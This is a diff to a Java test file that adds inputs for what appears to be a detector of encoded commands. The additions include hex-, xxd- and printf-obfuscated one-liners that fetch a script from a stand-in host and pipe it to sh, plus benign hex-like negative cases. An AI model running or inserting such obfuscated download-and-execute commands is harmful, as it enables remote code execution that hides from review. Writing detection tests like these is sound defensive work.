@@ -28,6 +28,15 @@ final class WritingsTest {
                 "echo 'hs.d/66.311.0.302//:ptth lruc' | rev | sh",
                 // xxd -r -p, with blanks
                 "echo 63 75 72 6c 20 68 74 74 70 3a 2f 2f 32 30 33 2e 30 2e 31 31 33 2e 36 36 2f 64 2e 73 68 | xxd -r -p | sh",
+                // xxd's columns, bytes.hex(' ', 4) of python, and the one blank that bytes.fromhex passes over
+                "xxd -r -p <<< '6375 726c 2068 7474 703a 2f2f 3230 332e 302e 3131 332e 3636 2f64 2e73 68'",
+                "os.system(bytes.fromhex('63 75726c20 68747470 3a2f2f32 30332e30 2e313133 2e36362f 642e7368'))",
+                "bytes.fromhex('6375726c20687474703a2f2f3230 332e302e3131332e36362f642e7368')",
+                // bytes.hex(':') and bytes.hex('-', 2)
+                "63:75:72:6c:20:68:74:74:70:3a:2f:2f:32:30:33:2e:30:2e:31:31:33:2e:36:36:2f:64:2e:73:68",
+                "63-7572-6c20-6874-7470-3a2f-2f32-3033-2e30-2e31-3133-2e36-362f-642e-7368",
+                // printf of bash
+                "printf '\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f203.0.113.66/d.sh' | sh",
                 // list(b'…') of python, as each language makes characters of it
                 list("(%s|%%{[char]$_}) -join ''", ","),
                 list("$a=[byte[]](%s)", ", "),
@@ -64,6 +73,9 @@ final class WritingsTest {
                 "C:\\Program Files\\7-Zip\\7z.exe a D:\\0\\b.7z",
                 "nmap -p 21,22,25,80,110,143,443,445,993,995 192.168.12.0/24",
                 "ip link set eth0 address 52:54:00:12:34:56",
+                "lspci -d 8086:1533 1af4:1000 10de:2484",
+                "trim 0d20 1f2e 7b3a",
+                "9f86d081-884c-7d65-9a2f-eaa0c55ad015",
                 "ddcutil setvcp 10 20 30 40 50 60 70 80 90 100",
                 "/usr/lib/x86_64-linux-gnu/security/pam_unix.so --option=value")) {
             assertEquals(List.of(text), List.copyOf(Writings.of(text)));
